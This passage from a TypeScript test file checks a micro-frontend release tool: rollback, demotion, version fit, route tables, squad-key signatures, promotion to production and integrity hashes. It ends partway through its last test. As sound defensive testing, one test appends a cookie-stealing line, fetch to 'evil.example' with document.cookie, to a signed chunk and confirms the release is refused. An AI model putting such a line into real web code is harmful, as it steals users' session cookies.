/** The release pointer's moves and the fit checks (the `release` stage of scripts/test.mjs). */
import { test } from 'node:test';
import crypto from 'node:crypto';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  buildHash,
  demote,
  endCanary,
  logged,
  readPointer,
  recordVersion,
  rollBack,
  savePointer,
  startCanary,
  switchTo,
  withLock,
  writeAll,
  type App,
  type Pointer,
  VERSION_DIR,
  type Version,
} from '../core/store';
import type { ReleaseInfo, SpecRoutesFile } from '../core/published';
import { apiPublicOrigin } from '../../../apps.config.mjs';
import type { RouteEntry, SpecRoute } from 'shared/routes';
import { callProblems, routeProblems, sharedFit, staffRouteProblems } from './checks';
import { demoteRelease, describe, endCanaryRelease, Refused, release, rollback } from './release';
import { publicKeyOf, SIGNATURE_FILE, signBuild, type KeyRing } from '../core/signing';
import { folderRegistry } from '../core/registry';
import { promotionFrom } from './promote';

// versions as a pointer from before `verified` was recorded has them
const v = (id: string): Version => ({ id, version: id.split('-')[0], shared: '1.0.0', publishedAt: '2026-11-23T10:00:00.000Z' });
const empty = (): Pointer => ({ remote: 'mf_repay', current: null, lastGood: null, versions: [] });
const released = (...ids: string[]) => ids.reduce((p, id) => switchTo({ ...p, versions: [...p.versions, v(id)] }, id), empty());
/** `[id, verified]` pairs released in turn, as release() records them */
const releasedAs = (...pairs: [string, boolean][]) => pairs.reduce((p, [id, verified]) => switchTo(recordVersion(p, { ...v(id), verified }), id), empty());

test('each release becomes current and the one before it the last good', () => {
  const p = released('1.0.0-aaaaaaa', '1.0.1-bbbbbbb', '1.0.2-ccccccc');
  assert.equal(p.current, '1.0.2-ccccccc');
  assert.equal(p.lastGood, '1.0.1-bbbbbbb');
  assert.equal(switchTo(p, p.current), p, 'the same build again changes nothing');
});

test('rollback goes to the last good one, marks the one left, and the next rollback goes further back', () => {
  const p = released('1.0.0-aaaaaaa', '1.0.1-bbbbbbb', '1.0.2-ccccccc');
  const once = rollBack(p, undefined, new Date('2026-11-23T11:00:00Z'));
  assert.equal(once.current, '1.0.1-bbbbbbb');
  assert.equal(once.lastGood, '1.0.0-aaaaaaa');
  assert.equal(once.versions[2].rolledBackAt, '2026-11-23T11:00:00.000Z');
  const twice = rollBack(once);
  assert.equal(twice.current, '1.0.0-aaaaaaa');
  assert.equal(twice.lastGood, null);
  assert.throws(() => rollBack(twice), /no earlier good version/);
  // a rolled-back version named again is current again, the good one before it its fallback
  const forward = rollBack(twice, '1.0.2-ccccccc');
  assert.equal(forward.current, '1.0.2-ccccccc');
  assert.equal(forward.versions[2].rolledBackAt, undefined);
  assert.equal(forward.lastGood, '1.0.0-aaaaaaa', '1.0.1 was rolled back, so it is not a fallback');
  assert.throws(() => rollBack(p, '9.9.9-fffffff'), /no version 9\.9\.9-fffffff/);
  assert.throws(() => rollBack(p, p.current), /already current/);
});

test('a release after a rollback falls back to the version that was rolled back to', () => {
  const back = rollBack(released('1.0.0-aaaaaaa', '1.0.1-bbbbbbb'));
  const p = switchTo({ ...back, versions: [...back.versions, v('1.0.2-ccccccc')] }, '1.0.2-ccccccc');
  assert.equal(p.current, '1.0.2-ccccccc');
  assert.equal(p.lastGood, '1.0.0-aaaaaaa');
});

test('the pointer is saved whole, with a redirect to the current standalone page; one release at a time', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lm-rel-'));
  const p = released('1.0.0-aaaaaaa');
  savePointer(dir, p);
  assert.deepEqual(readPointer(dir, 'mf_repay'), JSON.parse(JSON.stringify(p)));
  assert.match(fs.readFileSync(path.join(dir, 'index.html'), 'utf8'), /url=1\.0\.0-aaaaaaa\//);
  // the redirect page with its compressed copies (the pointer and hashes are too small for any)
  assert.deepEqual(fs.readdirSync(dir).sort(), ['csp-hashes.json', 'index.html', 'index.html.br', 'index.html.gz', 'releases.json'], 'no temporary file left');
  const order: string[] = [];
  const slow = withLock(dir, async () => {
    order.push('a');
    await new Promise((r) => setTimeout(r, 150));
    order.push('a done');
  });
  const next = withLock(dir, async () => order.push('b'));
  await Promise.all([slow, next]);
  assert.deepEqual(order, ['a', 'a done', 'b']);
});

test('the same files give the same hash; any change gives another', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lm-build-'));
  fs.mkdirSync(path.join(dir, 'standalone'));
  fs.writeFileSync(path.join(dir, 'a.js'), 'one');
  fs.writeFileSync(path.join(dir, 'standalone', 'b.js'), 'two');
  const h = buildHash(dir);
  assert.match(h, /^[0-9a-f]{7}$/);
  assert.equal(buildHash(dir), h);
  fs.writeFileSync(path.join(dir, 'standalone', 'b.js'), 'two!');
  assert.notEqual(buildHash(dir), h);
  // the build's report, which no phone loads, is no part of its version
  const code = buildHash(dir);
  fs.writeFileSync(path.join(dir, 'mf-stats.json'), '{"shared":["react","zod"]}');
  fs.writeFileSync(path.join(dir, 'mf-stats.json.gz'), 'zipped');
  assert.equal(buildHash(dir), code);
  fs.writeFileSync(path.join(dir, 'mf-manifest.json'), '{}');
  assert.notEqual(buildHash(dir), code, 'the manifest the host loads is');
});

test("a build needing a platform the host does not have is refused naming the host's version needed; another part out of range is a note", () => {
  const host = (platform: string, ui = '1.0.0') => ({
    shared: [
      { name: 'react', version: '19.3.1' },
      { name: 'shared', version: platform },
      { name: 'shared/ui', version: ui },
      { name: 'shared/forms', version: ui },
    ],
  });
  const needs = (platform: string, ui = '1.0.0') => ({
    parts: {
      platform: { version: platform, range: `^${platform}`, shares: ['shared'] },
      ui: { version: ui, range: `^${ui}`, shares: ['shared/ui', 'shared/forms'] },
    },
  });
  assert.deepEqual(sharedFit(needs('2.1.0'), host('2.3.0')), { problems: [], notes: [] });
  assert.deepEqual(sharedFit(needs('2.1.0'), host('2.0.0')).problems, [
    'needs platform ^2.1.0 (it was built with 2.1.0); the running host has platform 2.0.0: release a host with platform 2.1.0 or later first',
  ]);
  assert.match(sharedFit(needs('2.1.0'), host('3.0.0')).problems[0], /host has platform 3\.0\.0, a later major version: rebuild it against platform 3\.x/);
  // the host's kit is older than the remote's: it brings its own copy, no refusal
  assert.deepEqual(sharedFit(needs('2.0.0', '1.2.0'), host('2.0.0', '1.1.0')), {
    problems: [],
    notes: ['needs ui ^1.2.0 (it was built with 1.2.0); the running host has ui 1.1.0: it loads its own copy of shared/ui, shared/forms'],
  });
  // a build from before parts: the platform of its shared's major
  assert.deepEqual(sharedFit({ shared: '2.0.0' }, host('2.4.0')).problems, []);
  assert.match(sharedFit({ shared: '1.0.0' }, host('2.0.0')).problems[0], /a later major version/);
  assert.match(sharedFit(needs('2.0.0'), { shared: [] }).problems[0], /needs platform \^2\.0\.0 .*the running host provides none/);
  const contract = { fingerprint: 'f00d', endpoints: [{ name: 'repaymentDetail', method: 'GET', prefix: '/api', path: '/portal/repayment/detail' }] };
  const info = (calls: ReleaseInfo['calls']) => ({ calls });
  assert.deepEqual(callProblems(info([contract.endpoints[0]]), contract, 'http://api'), []);
  const [problem] = callProblems(info([{ name: 'repayColor', method: 'GET', prefix: '/api', path: '/loanMarket/repay-color' }]), contract, 'http://api');
  assert.match(problem, /calls repayColor .* which the API at http:\/\/api does not answer \(catalogue f00d\)/);
});

test("a route table is refused when it moves or re-guards a spec route, drops one, or takes another's path", () => {
  const spec: SpecRoutesFile = {
    routes: [
      { name: 'repayDetail', path: '/repay/repay_detail', remote: 'mf_repay' },
      { name: 'cashier', path: '/repay/cashier', remote: 'mf_repay' },
      { name: 'me', path: '/me', remote: 'mf_usercenter', tab: true },
      { name: 'settings', path: '/user_center/settings', remote: 'mf_usercenter', guarded: true },
    ],
    redirects: [{ from: '/repay', to: '/' }],
  };
  const others = spec.routes.filter((r) => r.remote !== 'mf_repay').concat({ name: 'meGuide', path: '/me/guide', remote: 'mf_usercenter' });
  const repay = (...extra: SpecRoute[]) => ({ remote: 'mf_repay', routes: [...spec.routes.slice(0, 2), ...extra] });
  assert.deepEqual(routeProblems(repay({ name: 'repayGuide', path: '/repay/guide', remote: 'mf_repay', guarded: true }), spec, others), []);

  const moved = { remote: 'mf_repay', routes: [{ ...spec.routes[0], guarded: true }, spec.routes[1]] };
  assert.match(
    routeProblems(moved, spec, others)[0],
    /repayDetail \(\/repay\/repay_detail, guarded\) contradicts the spec's table: repayDetail \(\/repay\/repay_detail\)/,
  );
  assert.match(routeProblems({ remote: 'mf_repay', routes: [spec.routes[0]] }, spec, others)[0], /drops spec routes other screens open by name: cashier/);
  assert.match(routeProblems(repay({ name: 'myMe', path: '/me', remote: 'mf_repay' }), spec, others)[0], /takes the spec's path of me/);
  assert.match(routeProblems(repay({ name: 'x', path: '/repay', remote: 'mf_repay' }), spec, others)[0], /the redirect to \//);
  assert.match(routeProblems(repay({ name: 'g', path: '/me/guide', remote: 'mf_repay' }), spec, others)[0], /claimed by mf_usercenter already: meGuide/);
  assert.match(routeProblems(repay({ ...spec.routes[2], remote: 'mf_repay' }), spec, others)[0], /route me is mf_usercenter's in the spec's table/);
  assert.match(routeProblems({ remote: 'mf_repay' }, spec, others)[0], /publishes no route table/);
});

test("a call whose request or response schema differs from the API's is refused; a build without fingerprints is checked by path", () => {
  const detail = { name: 'repaymentDetail', method: 'GET', prefix: '/api', path: '/portal/repayment/detail' };
  const contract = { fingerprint: 'f00d', endpoints: [{ ...detail, request: 'req1', response: 'res1' }] };
  const problems = (call: ReleaseInfo['calls'][number]) => callProblems({ calls: [call] }, contract, 'http://api');
  assert.deepEqual(problems({ ...detail, request: 'req1', response: 'res1' }), []);

  // what a renamed required parameter makes: same path, another request schema
  const [request, ...more] = problems({ ...detail, request: 'req0', response: 'res1' });
  assert.equal(more.length, 0);
  assert.match(request, /calls repaymentDetail \(GET \/api\/portal\/repayment\/detail\) with a request the API at http:\/\/api may no longer accept/);
  assert.match(request, /built for request schema req0, the API has req1\. Rebuild against the API's contract/);

  const [response] = problems({ ...detail, request: 'req1', response: 'res0' });
  assert.match(response, /calls repaymentDetail .* reads its answer as built for response schema res0, but the API at http:\/\/api answers by res1/);
  assert.equal(problems({ ...detail, request: 'req0', response: 'res0' }).length, 2, 'both sides are reported');

  assert.deepEqual(problems(detail), [], 'a build from before fingerprints: by path only');
  assert.deepEqual(
    callProblems({ calls: [{ ...detail, request: 'req0' }] }, { fingerprint: 'f00d', endpoints: [detail] }, 'http://api'),
    [],
    'and an API from before them',
  );
});

test('an unverified release is never the last good one nor the default rollback target; the same build verified later is', () => {
  const p = releasedAs(['1.0.0-aaaaaaa', true], ['1.0.1-bbbbbbb', false], ['1.0.2-ccccccc', true]);
  assert.equal(p.current, '1.0.2-ccccccc');
  assert.equal(p.lastGood, '1.0.0-aaaaaaa', 'the unverified 1.0.1 is skipped');
  assert.equal(rollBack(p).current, '1.0.0-aaaaaaa');
  assert.match(describe(p), /1\.0\.1-bbbbbbb .*\(unverified\)/);

  // released while unverified is current: the last good one stays
  const q = releasedAs(['1.0.0-aaaaaaa', true], ['1.0.1-bbbbbbb', true], ['1.0.2-ccccccc', false]);
  assert.equal(q.lastGood, '1.0.1-bbbbbbb');
  assert.equal(switchTo(recordVersion(q, { ...v('1.0.3-ddddddd'), verified: true }), '1.0.3-ddddddd').lastGood, '1.0.1-bbbbbbb');
  assert.equal(rollBack(q).current, '1.0.1-bbbbbbb');

  // the same build released again: false -> true, never back
  const verified = recordVersion(q, { ...v('1.0.2-ccccccc'), verified: true });
  assert.equal(verified.versions[2].verified, true);
  assert.equal(recordVersion(verified, { ...v('1.0.2-ccccccc'), verified: false }), verified);
  assert.doesNotMatch(describe(verified), /unverified/);
  // named explicitly, an unverified version can be rolled to; it is still no fallback
  const toBad = rollBack(p, '1.0.1-bbbbbbb');
  assert.equal(toBad.current, '1.0.1-bbbbbbb');
  assert.equal(toBad.lastGood, '1.0.0-aaaaaaa');
});

test('a pointer written before verification was recorded reads as verified', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lm-old-'));
  const old = { remote: 'mf_repay', current: '1.0.1-bbbbbbb', lastGood: '1.0.0-aaaaaaa', versions: [v('1.0.0-aaaaaaa'), v('1.0.1-bbbbbbb')] };
  fs.writeFileSync(path.join(dir, 'releases.json'), JSON.stringify(old));
  const p = readPointer(dir, 'mf_repay');
  assert.doesNotMatch(describe(p), /unverified/);
  assert.equal(switchTo(recordVersion(p, { ...v('1.0.2-ccccccc'), verified: true }), '1.0.2-ccccccc').lastGood, '1.0.1-bbbbbbb');
  assert.equal(rollBack(p).current, '1.0.0-aaaaaaa');
  fs.writeFileSync(path.join(dir, 'releases.json'), '{ "remote": "mf_repay", ');
  assert.throws(() => readPointer(dir, 'mf_repay'), /releases\.json cannot be read/);
});

test('demote marks a version bad: the current one rolls back to the last good, a demoted one is never a fallback', () => {
  const at = new Date('2026-11-23T12:00:00Z');
  const p = releasedAs(['1.0.0-aaaaaaa', true], ['1.0.1-bbbbbbb', true], ['1.0.2-ccccccc', true]);
  const d = demote(p, '1.0.2-ccccccc', 'remoteFallback x12', at);
  assert.equal(d.current, '1.0.1-bbbbbbb');
  assert.equal(d.lastGood, '1.0.0-aaaaaaa');
  assert.deepEqual([d.versions[2].demotedAt, d.versions[2].demoteReason], ['2026-11-23T12:00:00.000Z', 'remoteFallback x12']);
  assert.match(describe(d), /1\.0\.2-ccccccc .*demoted 2026-11-23 12:00 UTC: remoteFallback x12/);
  assert.equal(demote(d, '1.0.2-ccccccc', 'again'), d, 'demoted once');

  // the last good one demoted: the good one before it takes its place; a later release never falls back to it
  const e = demote(p, '1.0.1-bbbbbbb', 'bad', at);
  assert.equal(e.current, '1.0.2-ccccccc');
  assert.equal(e.lastGood, '1.0.0-aaaaaaa');
  assert.equal(rollBack(e).current, '1.0.0-aaaaaaa');
  assert.throws(() => demote(p, '9.9.9-fffffff', 'x'), /no version 9\.9\.9-fffffff/);
  assert.throws(() => demote(released('1.0.0-aaaaaaa'), '1.0.0-aaaaaaa', 'x'), /no earlier good version/);
});

test('writeAll: a write failing midway puts back what was written', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lm-write-'));
  const [a, b, c] = ['a.json', 'b.json', 'c'].map((f) => path.join(dir, f));
  fs.writeFileSync(a, 'old a');
  fs.mkdirSync(c); // a folder where a file goes: its write fails
  fs.writeFileSync(path.join(c, 'x'), '');
  assert.throws(() =>
    writeAll([
      [a, 'new a'],
      [b, 'new b'],
      [c, 'new c'],
    ]),
  );
  assert.equal(fs.readFileSync(a, 'utf8'), 'old a');
  assert.equal(fs.existsSync(b), false);
});

/**
 * A releases folder with a host build and two remotes, released through release() and friends
 * as the CLI does (against a fixed spec and contract).
 */
function stack() {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'lm-stack-'));
  const hostDist = path.join(root, 'host-dist');
  fs.mkdirSync(hostDist);
  fs.writeFileSync(path.join(hostDist, 'index.html'), '<html><head><script id="remote-assets" type="application/json">{}</script></head></html>');
  fs.writeFileSync(
    path.join(hostDist, 'mf-manifest.json'),
    JSON.stringify({ shared: [{ name: 'shared', version: '1.0.0', assets: { js: { sync: [] }, css: { sync: [] } } }] }),
  );
  fs.writeFileSync(path.join(hostDist, 'host-shares.json'), '[]');
  const apps = [
    { dir: 'host', name: 'host', port: 3100 },
    { dir: 'mf-loan', name: 'mf_loan', port: 3102 },
    { dir: 'mf-repay', name: 'mf_repay', port: 3103 },
    // a staff app (apps.config.mjs STAFF_APPS): released with the rest, never composed
    { dir: 'mf-operations', name: 'mf_operations', port: 3105, staff: true },
  ];
  const route = (remote: string) => ({ name: `${remote}Home`, path: `/${remote}`, remote }) as RouteEntry;
  const spec: SpecRoutesFile = { routes: apps.filter((a) => a.name !== 'host' && !a.staff).map((a) => route(a.name)), redirects: [] };
  const releasesDir = path.join(root, 'releases');
  let builds = 0;
  /** a build of `app`, distinct from any other; `info`: more of its release.json */
  const build = (app: App, info: Partial<ReleaseInfo> = {}) => {
    const from = path.join(root, `build-${++builds}`);
    fs.mkdirSync(from);
    const js = { sync: [`routes.${builds}.js`] };
    fs.writeFileSync(path.join(from, js.sync[0]), `/* ${builds} */`);
    const manifest = {
      shared: [{ name: 'shared', version: '1.0.0' }],
      metaData: { remoteEntry: { name: 'remoteEntry.js' } },
      exposes: [{ name: 'routes', assets: { js, css: { sync: [] } } }],
    };
    fs.writeFileSync(path.join(from, 'mf-manifest.json'), JSON.stringify(manifest));
    fs.writeFileSync(
      path.join(from, 'release.json'),
      JSON.stringify({ remote: app.name, version: '1.0.0', shared: '1.0.0', calls: [], routes: [route(app.name)], ...info }),
    );
    return from;
  };
  const common = { apps, releasesDir, hostDist };
  const byName = (dir: string) => apps.find((a) => a.dir === dir)!;
  // each remote's squad with a key of its own, as squads.json has them
  const privateKeys = Object.fromEntries(
    ['loan', 'repay', 'operations'].map((squad) => [
      squad,
      crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
    ]),
  );
  const keys: KeyRing = Object.fromEntries(
    Object.entries(privateKeys).map(([squad, key]) => [squad, { remotes: [`mf_${squad}`], publicKey: publicKeyOf(key) }]),
  );
  /** the build in `from` of the remote in `dir`, signed by `squad` (default: its own) */
  const sign = (dir: string, from: string, squad = byName(dir).name.replace('mf_', '')) => signBuild(from, byName(dir).name, privateKeys[squad]);
  return {
    releasesDir,
    apps,
    byName,
    keys,
    privateKeys,
    sign,
    build: (dir: string, info?: Partial<ReleaseInfo>) => build(byName(dir), info),
    release: (dir: string, opts: Partial<Parameters<typeof release>[0]> = {}) => {
      const from = opts.from ?? build(byName(dir));
      return release({
        ...common,
        app: byName(dir),
        from,
        signed: sign(dir, from),
        keys,
        hostManifest: { shared: [{ name: 'shared', version: '1.0.0' }] },
        spec,
        contract: { fingerprint: 'f', endpoints: [] },
        apiOrigin: 'http://api',
        verified: true,
        ...opts,
      });
    },
    rollback: (dir: string, opts: { to?: string; by?: string; note?: string; origin?: string } = {}) => rollback({ ...common, app: byName(dir), ...opts }),
    demote: (dir: string, version: string, reason: string) => demoteRelease({ ...common, app: byName(dir), version, reason }),
    /** the files a pointer change writes, as bytes */
    written: () =>
      ['mf-repay/releases.json', 'mf-repay/index.html', 'host/remotes.json', 'host/index.html'].map((f) => fs.readFileSync(path.join(releasesDir, f), 'utf8')),
    remotesJson: () => JSON.parse(fs.readFileSync(path.join(releasesDir, 'host/remotes.json'), 'utf8')),
    pageFiles: () => pageAssets(releasesDir).files,
    pageScreens: () => pageAssets(releasesDir).screens,
    pageIntegrity: () => pageAssets(releasesDir).integrity,
  };
}

/** what the published host page carries for its start hints */
const pageAssets = (releasesDir: string) =>
  JSON.parse(fs.readFileSync(path.join(releasesDir, 'host/index.html'), 'utf8').match(/application\/json">([^<]*)</)![1]);

test("a release publishes each route's screen files in the host page, by the route's path, at its version's address", async () => {
  const s = stack();
  const screens = { mf_repayHome: ['7.js', '7.css'], notARoute: ['8.js'] };
  const r = await s.release('mf-repay', { from: s.build('mf-repay', { screens }) });
  assert.deepEqual(s.pageScreens().mf_repay, { '/mf_repay': [`http://localhost:3103/${r.id}/7.js`, `http://localhost:3103/${r.id}/7.css`] });
  // a build that lists none (from before the list): no screen files for its routes
  await s.release('mf-loan');
  assert.deepEqual(s.pageScreens().mf_loan, {});
  assert.equal(s.pageScreens().mf_repay['/mf_repay'].length, 2);
});

test('two builds of one source are one version: the second release is already current, neither smoke-loaded nor switched again', async () => {
  const s = stack();
  const first = s.build('mf-repay');
  fs.writeFileSync(path.join(first, 'mf-stats.json'), '{"shared":["react","zod"]}');
  // the same code built again, its report's lists in another order
  const second = fs.mkdtempSync(path.join(os.tmpdir(), 'lm-build-'));
  fs.cpSync(first, second, { recursive: true });
  fs.writeFileSync(path.join(second, 'mf-stats.json'), '{"shared":["zod","react"]}');
  const smoked: string[] = [];
  const verify = async (c: { version: string }) => (smoked.push(c.version), []);
  const a = await s.release('mf-repay', { from: first, verify });
  const b = await s.release('mf-repay', { from: second, verify });
  assert.equal(b.id, a.id, 'one version');
  assert.equal(b.published, false, 'its folder was there: the same build');
  assert.equal(b.before, a.id, 'already current');
  assert.deepEqual(smoked, [a.id], 'smoke-loaded once');
  const p = readPointer(path.join(s.releasesDir, 'mf-repay'), 'mf_repay');
  assert.deepEqual(
    p.versions.map((v) => v.id),
    [a.id],
  );
  assert.equal(p.log!.filter((e) => e.action === 'release').length, 1, 'one switch logged');
  assert.equal(fs.readFileSync(path.join(s.releasesDir, 'mf-repay', a.id, 'mf-stats.json'), 'utf8'), '{"shared":["react","zod"]}', 'the folder never changes');
});

test('a release needing a newer platform than the host has is refused, naming the host version; nothing switches, the log keeps the refusal', async () => {
  const s = stack();
  await s.release('mf-loan');
  const platform = { version: '1.1.0', range: '^1.1.0', shares: ['shared'] };
  await assert.rejects(
    s.release('mf-repay', { from: s.build('mf-repay', { shared: '1.1.0', parts: { platform } }) }),
    (e) =>
      e instanceof Refused &&
      e.message.includes(
        'mf-repay 1.0.0 does not fit what it would meet:\n  - needs platform ^1.1.0 (it was built with 1.1.0); the running host has platform 1.0.0: release a host with platform 1.1.0 or later first',
      ),
  );
  assert.deepEqual(fs.readdirSync(path.join(s.releasesDir, 'mf-repay')), ['releases.json'], 'no version folder, no pointer page');
  const pointer = readPointer(path.join(s.releasesDir, 'mf-repay'), 'mf_repay');
  assert.deepEqual([pointer.current, pointer.versions], [null, []]);
  assert.deepEqual(
    pointer.log!.map((e) => [e.action, e.from, /needs platform \^1\.1\.0/.test(e.note ?? '')]),
    [['refused', null, true]],
  );
  assert.match(describe(pointer), /refused +1\.0\.0-\w+ +by unknown: [\s\S]*needs platform/);
  assert.deepEqual(Object.keys(s.remotesJson()), ['mf_loan']);
});

test("a release signed with another squad's key, unsigned, or whose files changed after signing is refused; the log keeps each refusal, nothing switches", async () => {
  const s = stack();
  const { id: good } = await s.release('mf-repay');
  const refusedWith = async (opts: Partial<Parameters<typeof release>[0]>, message: string) => {
    const versions = () => fs.readdirSync(path.join(s.releasesDir, 'mf-repay')).filter((f) => VERSION_DIR.test(f));
    const before = versions();
    const remotes = s.remotesJson();
    await assert.rejects(s.release('mf-repay', opts), (e) => e instanceof Refused && e.message === message);
    const pointer = readPointer(path.join(s.releasesDir, 'mf-repay'), 'mf_repay');
    assert.equal(pointer.current, good);
    assert.deepEqual(pointer.log!.at(-1), { ...pointer.log!.at(-1), action: 'refused', note: message });
    assert.deepEqual(versions(), before, 'no version folder');
    assert.deepEqual(s.remotesJson(), remotes);
  };
  const other = s.build('mf-repay');
  await refusedWith(
    { from: other, signed: s.sign('mf-repay', other, 'loan') },
    "mf_repay 1.0.0 is signed with the loan squad's key; only the repay squad may release mf_repay",
  );
  await refusedWith({ from: s.build('mf-repay'), signed: undefined }, "mf_repay 1.0.0 is not signed: a release is signed with the repay squad's key");
  // a key no squad has
  const stranger = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
  const strange = s.build('mf-repay');
  await refusedWith(
    { from: strange, signed: signBuild(strange, 'mf_repay', stranger) },
    "mf_repay 1.0.0 is not signed with the repay squad's key: only the repay squad may release mf_repay",
  );
  // a chunk changed after the squad signed the build (on its way to the bucket, say)
  const tampered = s.build('mf-repay');
  const signed = s.sign('mf-repay', tampered);
  const chunk = fs.readdirSync(tampered).find((f) => f.startsWith('routes.'))!;
  fs.appendFileSync(path.join(tampered, chunk), ';fetch("https://evil.example/"+document.cookie)');
  await refusedWith({ from: tampered, signed }, `mf_repay 1.0.0's files are not the ones signed (${chunk})`);
  // the squad's own signature, but of another remote's build: not this one's
  const mislabelled = s.build('mf-repay');
  await refusedWith(
    { from: mislabelled, signed: signBuild(mislabelled, 'mf_loan', s.privateKeys.repay) },
    'the signature is for mf_loan 1.0.0, not mf_repay 1.0.0',
  );
});

test('a released version carries its signature: every file a phone loads with its sha384 integrity, signed by its squad', async () => {
  const s = stack();
  const { id } = await s.release('mf-repay');
  const folder = path.join(s.releasesDir, 'mf-repay', id);
  const published = JSON.parse(fs.readFileSync(path.join(folder, SIGNATURE_FILE), 'utf8'));
  const manifest = JSON.parse(published.payload);
  assert.equal(manifest.remote, 'mf_repay');
  assert.deepEqual(
    Object.keys(manifest.files).sort(),
    ['mf-manifest.json', 'release.json', fs.readdirSync(folder).find((f) => /^routes\.\d+\.js$/.test(f))].sort(),
  );
  const file = 'mf-manifest.json';
  assert.equal(
    manifest.files[file],
    `sha384-${crypto
      .createHash('sha384')
      .update(fs.readFileSync(path.join(folder, file)))
      .digest('base64')}`,
  );
  // ECDSA P-256 over SHA-256, r||s as WebCrypto checks it (host/src/remotes/integrity.ts)
  const key = crypto.createPublicKey({ key: Buffer.from(s.keys.repay.publicKey!, 'base64'), format: 'der', type: 'spki' });
  assert.equal(key.asymmetricKeyDetails?.namedCurve, 'prime256v1');
  assert.ok(crypto.verify('sha256', Buffer.from(published.payload), { key, dsaEncoding: 'ieee-p1363' }, Buffer.from(published.signature, 'base64')));
});

test("promotion: production takes the version staging runs, its bytes and squad's signature as they are; a direct release there, or a version changed in staging, is refused and logged", async () => {
  const s = stack();
  const production = path.join(path.dirname(s.releasesDir), 'production');
  const staging = () => ({ releasesDir: s.releasesDir, registry: folderRegistry(s.releasesDir, s.apps) });
  const { id } = await s.release('mf-repay');
  const p = await promotionFrom(staging(), s.byName('mf-repay'));
  assert.equal(p.id, id);
  const toProduction = (opts: Partial<Parameters<typeof release>[0]>) => s.release('mf-repay', { releasesDir: production, promotedOnly: true, ...opts });
  const r = await toProduction({ from: p.from, signed: p.signed, promotedFrom: p.promotedFrom });
  assert.equal(r.id, id, 'the same version');
  const files = (dir: string) => fs.readdirSync(dir).map((f) => [f, fs.readFileSync(path.join(dir, f), 'utf8')]);
  assert.deepEqual(files(path.join(production, 'mf-repay', id)), files(path.join(s.releasesDir, 'mf-repay', id)), 'the same bytes, the same signature');
  const log = () => readPointer(path.join(production, 'mf-repay'), 'mf_repay').log!;
  assert.match(log().at(-1)!.note!, new RegExp(`^promoted from ${s.releasesDir} \\(${id} current there\\)`));
  // a build of its own, however well signed: production takes none
  await assert.rejects(toProduction({}), (e) => e instanceof Refused && e.message.includes('this environment takes only what staging runs'));
  assert.deepEqual([log().at(-1)!.action, readPointer(path.join(production, 'mf-repay'), 'mf_repay').current], ['refused', id]);
  // staging's next version, a chunk of it changed on staging's disk after its release: not what its squad signed
  const { id: next } = await s.release('mf-repay');
  const folder = path.join(s.releasesDir, 'mf-repay', next);
  const chunk = fs.readdirSync(folder).find((f) => /^routes\.\d+\.js$/.test(f))!;
  fs.appendFileSync(path.join(folder, chunk), ';alert(1)');
  const changed = await promotionFrom(staging(), s.byName('mf-repay'));
  await assert.rejects(
    toProduction({ from: changed.from, signed: changed.signed, promotedFrom: changed.promotedFrom }),
    (e) => e instanceof Refused && e.message === `mf_repay 1.0.0's files are not the ones signed (${chunk})`,
  );
  assert.equal(readPointer(path.join(production, 'mf-repay'), 'mf_repay').current, id, 'production unchanged');
  // nothing current in staging: nothing to promote
  await assert.rejects(promotionFrom(staging(), s.byName('mf-loan')), (e) => e instanceof Refused && /mf-loan has no current version in /.test(e.message));
});

test('a rollback to a version whose manifest is corrupt is refused, names it, and changes nothing', async () => {
  const s = stack();
  await s.release('mf-loan');
  const { id: first } = await s.release('mf-repay');
  await s.release('mf-repay');
  fs.writeFileSync(path.join(s.releasesDir, 'mf-repay', first, 'mf-manifest.json'), '{ "shared": [');
  const before = s.written();
  await assert.rejects(
    s.rollback('mf-repay'),
    (e) => e instanceof Refused && e.message.includes(`mf-repay ${first}: ${path.join(s.releasesDir, 'mf-repay', first, 'mf-manifest.json')} cannot be read`),
  );
  assert.deepEqual(s.written(), before);
  // a manifest that parses but is none: the same
  fs.writeFileSync(path.join(s.releasesDir, 'mf-repay', first, 'mf-manifest.json'), '{}');
  await assert.rejects(s.rollback('mf-repay'), (e) => e instanceof Refused && /mf-repay 1\.0\.0-\w+: .*mf-manifest\.json is not a manifest/.test(e.message));
  assert.deepEqual(s.written(), before);
});

test("the host page gives a release's start-up and screen files the integrity its signature gives them, and asks for the signature with the manifest", async () => {
  const s = stack();
  const from = s.build('mf-repay', { screens: { mf_repayHome: ['7.js', '7.css'] } });
  for (const f of ['7.js', '7.css']) fs.writeFileSync(path.join(from, f), `/* ${f} */`);
  const r = await s.release('mf-repay', { from });
  const at = (f: string) => `http://localhost:3103/${r.id}/${f}`;
  const chunk = fs.readdirSync(from).find((f) => /^routes\.\d+\.js$/.test(f))!;
  // the manifest, then its signature (the host reads it next), then the entry and the routes chunk
  assert.deepEqual(s.pageFiles().mf_repay, [at('mf-manifest.json'), at(SIGNATURE_FILE), at('remoteEntry.js'), at(chunk)]);
  const signed = JSON.parse(JSON.parse(fs.readFileSync(path.join(s.releasesDir, 'mf-repay', r.id, SIGNATURE_FILE), 'utf8')).payload).files;
  // every hinted file the signature covers (this build has no remoteEntry.js), by address; nothing else of the release
  assert.deepEqual(s.pageIntegrity().mf_repay, {
    [at('mf-manifest.json')]: signed['mf-manifest.json'],
    [at(chunk)]: signed[chunk],
    [at('7.js')]: signed['7.js'],
    [at('7.css')]: signed['7.css'],
  });
  assert.match(s.pageIntegrity().mf_repay[at(chunk)], /^sha384-[A-Za-z0-9+/]{64}$/);
});

test("another remote's unreadable release does not block a release: its entry, start-up and screens' files stay as published, with a warning", async (t) => {
  const s = stack();
  const loan = await s.release('mf-loan');
  await s.release('mf-repay');
  const [loanEntry, loanFiles, loanScreens, loanIntegrity] = [
    s.remotesJson().mf_loan,
    s.pageFiles().mf_loan,
    s.pageScreens().mf_loan,
    s.pageIntegrity().mf_loan,
  ];
  assert.ok(Object.keys(loanIntegrity).length);
